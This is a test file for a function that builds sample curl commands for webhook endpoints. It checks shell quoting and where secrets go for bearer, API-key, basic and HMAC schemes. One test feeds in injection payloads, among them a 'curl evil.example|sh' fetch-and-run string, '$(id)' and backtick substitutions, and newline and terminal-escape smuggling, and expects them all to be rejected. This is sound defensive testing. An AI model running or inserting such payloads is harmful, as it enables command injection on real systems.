import { expect, test } from 'vitest'
import { sampleCall } from './sample-call'

const call = (verify: object | undefined, method = 'POST') => sampleCall({ type: 'webhook', ...(verify ? { verify } : {}) } as never, method, 'http://localhost:8080/hooks/orders', { name: "it's" }).text

test('without verification curl sends the sample, quoted for the shell', () => {
  expect(call(undefined)).toBe("curl -X POST 'http://localhost:8080/hooks/orders' \\\n  -H 'Content-Type: application/json' \\\n  -d '{\"name\":\"it'\\''s\"}'")
  expect(call(undefined, 'GET')).toBe("curl -X GET 'http://localhost:8080/hooks/orders'")
})

test('a secret that is sent itself stands where its sender puts it', () => {
  expect(call({ scheme: 'bearer', secrets: ['TOKEN'] })).toContain('-H "Authorization: Bearer $TOKEN"')
  expect(call({ scheme: 'api-key', secrets: ['KEY'], header: 'X-Key' })).toContain('-H "X-Key: $KEY"')
  expect(call({ scheme: 'basic', secrets: ['PASSWORD'], user: 'ada' })).toContain('-u \'ada\':"$PASSWORD"')
})

test('what is signed is sent by the server’s own command, with the options of its scheme', () => {
  expect(call({ scheme: 'hmac', secrets: ['KEY'], header: 'X-Signature', replayWindow: '1d' })).toBe('./automation send --provider hmac --secret "$KEY" \\\n  --to \'http://localhost:8080/hooks/orders\' \\\n  --option \'header=X-Signature\'')
})

test('a file that is not one’s own puts nothing into the shell', () => {
  const evil = '"; curl evil.example|sh; "'
  for (const verify of [
    { scheme: 'bearer', secrets: [evil] },
    { scheme: 'bearer', secrets: ['KEY$(id)'] },
    { scheme: 'api-key', secrets: ['KEY'], header: 'X-$(id)' },
    { scheme: 'api-key', secrets: ['KEY'], header: 'X`id`' },
    { scheme: 'basic', secrets: ['KEY'], user: 'ada\u001b[201~\nid\n' },
    { scheme: 'hmac', secrets: ['KEY'], header: 'X\nid' },
    { scheme: evil, secrets: ['KEY'] },
    { scheme: 'constructor', secrets: ['KEY'] },
  ])
    expect(call(verify), JSON.stringify(verify)).toBeNull()
  expect(call(undefined, 'POST; id')).toBeNull()
  expect(sampleCall({ type: 'webhook' } as never, 'POST', 'http://localhost/hooks/a\nid', {}).text).toBeNull()
  expect(sampleCall({ verify: { scheme: 'api-key', secrets: ['KEY'], header: 'a b' } } as never, 'POST', 'http://localhost/hooks/a', {}).note).toContain('header’s name')
  expect(call({ scheme: 'basic', secrets: ['KEY'], user: "a'; id; '" })).toContain(`-u 'a'\\''; id; '\\''':"$KEY"`)
})
